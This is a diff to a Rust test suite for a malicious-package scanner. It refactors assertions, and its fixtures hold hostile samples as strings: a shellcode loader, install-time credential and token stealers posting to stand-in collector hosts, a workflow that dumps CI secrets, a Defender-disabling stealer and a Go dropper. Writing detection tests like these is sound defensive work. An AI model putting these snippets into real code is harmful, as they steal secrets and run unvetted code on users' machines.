@@ -7,7 +7,9 @@
 
 mod common;
 
-use common::{analyse_files as analyse, assert_not_verdict, assert_verdict, has, rule_ids};
+use common::{
+    analyse_files as analyse, assert_has, assert_lacks, assert_not_verdict, assert_verdict,
+};
 use palisade_core::Verdict;
 use palisade_detect::Analysis;
 
@@ -49,20 +51,20 @@ fn npm_postinstall(install: &str) -> Analysis {
 fn a_module_that_runs_shellcode_is_malicious_wherever_it_sits() {
     let loader = "import ctypes, base64\nbuf = base64.b64decode(BLOB)\nk32 = ctypes.windll.kernel32\nptr = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)\nk32.RtlMoveMemory(ctypes.c_void_p(ptr), buf, len(buf))\nk32.WaitForSingleObject(k32.CreateThread(None, 0, ctypes.c_void_p(ptr), None, 0, None), -1)\n";
     let analysis = sdist(loader);
-    assert!(has(&analysis, "execution/shellcode-injection"));
+    assert_has(&analysis, "execution/shellcode-injection");
     assert_verdict(&analysis, Verdict::Malicious);
 
     // A binding that reserves memory through VirtualAlloc runs no code from it.
     let allocator = "import ctypes\nk32 = ctypes.windll.kernel32\ndef reserve(n):\n    return k32.VirtualAlloc(None, n, 0x2000, 0x04)\ndef release(p):\n    k32.VirtualFree(p, 0, 0x8000)\n";
     let analysis = sdist(allocator);
-    assert!(!has(&analysis, "execution/shellcode-injection"));
+    assert_lacks(&analysis, "execution/shellcode-injection");
     assert_verdict(&analysis, Verdict::Clean);
 
     // A CPU-feature check (polars, archspec) runs a few bytes of CPUID as a function.
     let cpuid = "import ctypes\n_CODE = b'\\x53\\x89\\xf0\\x0f\\xa2\\x5b\\xc3'\nclass CPUID:\n    def __init__(self):\n        self.addr = _VirtualAlloc(None, len(_CODE), 0x3000, 0x40)\n        ctypes.memmove(self.addr, _CODE, len(_CODE))\n        self.func = ctypes.CFUNCTYPE(None, ctypes.c_void_p)(self.addr)\n";
     let analysis = sdist(cpuid);
-    assert!(!has(&analysis, "execution/shellcode-injection"));
-    assert!(has(&analysis, "execution/executable-memory-call"));
+    assert_lacks(&analysis, "execution/shellcode-injection");
+    assert_has(&analysis, "execution/executable-memory-call");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -70,7 +72,7 @@ fn a_module_that_runs_shellcode_is_malicious_wherever_it_sits() {
 fn trufflehog_over_the_home_folder_at_install_is_a_stealer() {
     let worm = "const { execSync } = require('child_process');\nconst os = require('os');\nconst found = execSync('/tmp/trufflehog filesystem ' + os.homedir() + ' --json').toString();\nfetch('https://results.collector.example/r', { method: 'POST', body: found });\n";
     let analysis = npm_postinstall(worm);
-    assert!(has(&analysis, "credentials/secret-scanner-harvest"));
+    assert_has(&analysis, "credentials/secret-scanner-harvest");
     assert_verdict(&analysis, Verdict::Malicious);
 
     // A pre-commit wrapper scanning the repository it was asked to scan.
@@ -82,7 +84,7 @@ fn trufflehog_over_the_home_folder_at_install_is_a_stealer() {
         ),
         ("package/index.js", wrapper.as_bytes()),
     ]);
-    assert!(!has(&analysis, "credentials/secret-scanner-harvest"));
+    assert_lacks(&analysis, "credentials/secret-scanner-harvest");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -90,8 +92,8 @@ fn trufflehog_over_the_home_folder_at_install_is_a_stealer() {
 fn planting_a_workflow_that_dumps_every_secret_is_malicious() {
     let worm = "const fs = require('fs');\nconst wf = `on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$DATA\" https://collector.example/wf\n        env:\n          DATA: ${{ toJSON(secrets) }}\n`;\nfs.mkdirSync('.github/workflows', { recursive: true });\nfs.writeFileSync('.github/workflows/ci-helper.yml', wf);\n";
     let analysis = npm_postinstall(worm);
-    assert!(has(&analysis, "credentials/ci-secrets-dump"));
-    assert!(has(&analysis, "persistence/self-propagation"));
+    assert_has(&analysis, "credentials/ci-secrets-dump");
+    assert_has(&analysis, "persistence/self-propagation");
     assert_verdict(&analysis, Verdict::Malicious);
 
     // A workflow passing the one secret it needs, shipped by mistake.
@@ -105,7 +107,7 @@ fn planting_a_workflow_that_dumps_every_secret_is_malicious() {
             b"jobs:\n  publish:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
         ),
     ]);
-    assert!(!has(&analysis, "credentials/ci-secrets-dump"));
+    assert_lacks(&analysis, "credentials/ci-secrets-dump");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -113,7 +115,7 @@ fn planting_a_workflow_that_dumps_every_secret_is_malicious() {
 fn asking_npm_for_its_token_at_install_and_sending_it_is_theft() {
     let thief = "const { execSync } = require('child_process');\nconst token = execSync('npm config get //registry.example.test/:_authToken').toString();\nfetch('https://relay.collector.example/t', { method: 'POST', body: token });\n";
     let analysis = npm_postinstall(thief);
-    assert!(has(&analysis, "credentials/cli-stored-token"));
+    assert_has(&analysis, "credentials/cli-stored-token");
     assert_verdict(&analysis, Verdict::Malicious);
 }
 
@@ -129,12 +131,12 @@ fn a_rubygems_plugin_is_install_time_code() {
         ])
     };
     let analysis = gem("data.tar.gz!/lib/rubygems_plugin.rb");
-    assert!(has(&analysis, "install/gem-rubygems-plugin"));
-    assert!(has(&analysis, "correlate/install-time-network"));
+    assert_has(&analysis, "install/gem-rubygems-plugin");
+    assert_has(&analysis, "correlate/install-time-network");
     assert_verdict(&analysis, Verdict::Malicious);
     // The same code in a library file waits for someone to require it.
     let analysis = gem("data.tar.gz!/lib/demo/stats.rb");
-    assert!(!has(&analysis, "correlate/install-time-network"));
+    assert_lacks(&analysis, "correlate/install-time-network");
 }
 
 /// A Go module zip holding `source` as its only Go file.
@@ -166,7 +168,7 @@ fn a_command_spelled_from_a_character_table_is_read_and_shown() {
     // A hex-digit table indexed by nibbles is how Go code prints bytes.
     let hex = "package hexfmt\n\nvar digits = []string{\"0\",\"1\",\"2\",\"3\",\"4\",\"5\",\"6\",\"7\",\"8\",\"9\",\"a\",\"b\",\"c\",\"d\",\"e\",\"f\"}\n\nfunc Byte(b byte) string { return digits[b>>4] + digits[b&15] }\n";
     let analysis = go_module(hex);
-    assert!(!has(&analysis, "concealment/indexed-character-table"));
+    assert_lacks(&analysis, "concealment/indexed-character-table");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -183,13 +185,13 @@ fn searching_files_for_secret_keys_and_posting_them_is_theft() {
     };
     let thief = "pub fn init() {\n    let re = regex::Regex::new(r\"[1-9A-HJ-NP-Za-km-z]{87,88}\").unwrap();\n    let found: Vec<String> = walk(\".\").filter_map(|t| re.find(&t).map(|m| m.as_str().to_string())).collect();\n    let _ = reqwest::blocking::Client::new().post(\"https://rpc-pool.example.dev/\").body(found.join(\"\\n\")).send();\n}\n";
     let analysis = crate_with(thief);
-    assert!(has(&analysis, "credentials/private-key-search"));
+    assert_has(&analysis, "credentials/private-key-search");
     assert_verdict(&analysis, Verdict::Malicious);
 
     // Validating an address (32 to 44 characters) beside an RPC client is a wallet SDK.
     let sdk = "pub fn is_address(s: &str) -> bool {\n    regex::Regex::new(r\"^[1-9A-HJ-NP-Za-km-z]{32,44}$\").unwrap().is_match(s)\n}\npub fn balance(c: &reqwest::blocking::Client, a: &str) { let _ = c.post(\"https://rpc.example.dev/\").body(a.to_string()).send(); }\n";
     let analysis = crate_with(sdk);
-    assert!(!has(&analysis, "credentials/private-key-search"));
+    assert_lacks(&analysis, "credentials/private-key-search");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -197,14 +199,14 @@ fn searching_files_for_secret_keys_and_posting_them_is_theft() {
 fn a_stealer_that_blinds_defender_and_hides_from_analysts_is_flagged() {
     let stealer = "import os, subprocess, psutil\nBLACKLIST = ['httpdebuggerui', 'wireshark', 'fiddler', 'vboxservice', 'df5serv', 'processhacker', 'vboxtray', 'vmtoolsd']\nfor p in psutil.process_iter():\n    if p.name().lower().split('.')[0] in BLACKLIST:\n        p.kill()\nsubprocess.run('powershell Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath ' + os.getenv('TEMP'), shell=True)\n";
     let analysis = sdist(stealer);
-    assert!(has(&analysis, "concealment/anti-analysis-checks"));
-    assert!(has(&analysis, "concealment/security-tool-tampering"));
+    assert_has(&analysis, "concealment/anti-analysis-checks");
+    assert_has(&analysis, "concealment/security-tool-tampering");
     assert_verdict(&analysis, Verdict::Malicious);
 
     // A proxy library telling its users which tools show its traffic.
     let proxy = "\"\"\"Debugging: capture the traffic with Wireshark, Fiddler or HTTP Toolkit.\"\"\"\nimport socket\n\ndef forward(a, b):\n    b.sendall(a.recv(4096))\n";
     let analysis = sdist(proxy);
-    assert!(!has(&analysis, "concealment/anti-analysis-checks"));
+    assert_lacks(&analysis, "concealment/anti-analysis-checks");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -212,13 +214,13 @@ fn a_stealer_that_blinds_defender_and_hides_from_analysts_is_flagged() {
 fn a_go_init_that_downloads_writes_and_runs_is_a_dropper() {
     let dropper = "package utilz\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tresp, err := http.Get(\"https://dl.files.example/agent\")\n\tif err != nil {\n\t\treturn\n\t}\n\tf, _ := os.Create(\"/tmp/.agent\")\n\tio.Copy(f, resp.Body)\n\tf.Close()\n\texec.Command(\"/tmp/.agent\").Start()\n}\n";
     let analysis = go_module(dropper);
-    assert!(has(&analysis, "correlate/download-write-run"));
+    assert_has(&analysis, "correlate/download-write-run");
     assert_verdict(&analysis, Verdict::Malicious);
 
     // The same steps in a function the caller runs are an updater's.
     let updater = dropper.replace("func init()", "func Update()");
     let analysis = go_module(&updater);
-    assert!(!has(&analysis, "correlate/download-write-run"));
+    assert_lacks(&analysis, "correlate/download-write-run");
     assert_verdict(&analysis, Verdict::Clean);
 }
 
@@ -227,11 +229,7 @@ fn a_cgo_file_with_a_download_helper_is_not_a_dropper() {
     // cgo makes the file build-time code, but only `init` acts on every importer.
     let cgo = "package native\n\n// #include <stdlib.h>\nimport \"C\"\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc Download(url, to string) error {\n\tresp, err := http.Get(url)\n\tif err != nil {\n\t\treturn err\n\t}\n\tf, _ := os.Create(to)\n\t_, err = io.Copy(f, resp.Body)\n\treturn err\n}\n\nfunc Revision() ([]byte, error) { return exec.Command(\"git\", \"rev-parse\", \"HEAD\").Output() }\n";
     let analysis = go_module(cgo);
-    assert!(
-        !has(&analysis, "correlate/download-write-run"),
-        "{:?}",
-        rule_ids(&analysis)
-    );
+    assert_lacks(&analysis, "correlate/download-write-run");
     assert_not_verdict(&analysis, Verdict::Malicious);
 }
 
@@ -260,11 +258,7 @@ fn a_program_started_unseen_at_import_is_a_loader() {
     let loader = sdist(
         "import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.Popen([os.path.join(here, 'bin', 'svc.exe')], creationflags=subprocess.CREATE_NO_WINDOW)\n",
     );
-    assert!(
-        has(&loader, "correlate/import-time-background-process"),
-        "{:?}",
-        rule_ids(&loader)
-    );
+    assert_has(&loader, "correlate/import-time-background-process");
     assert_verdict(&loader, Verdict::Malicious);
     let wrapper = sdist(
         "import subprocess\nNO_WINDOW = getattr(subprocess, 'CREATE_NO_WINDOW', 0)\n\ndef git(*args):\n    return subprocess.run(['git', *args], creationflags=subprocess.CREATE_NO_WINDOW, capture_output=True)\n",
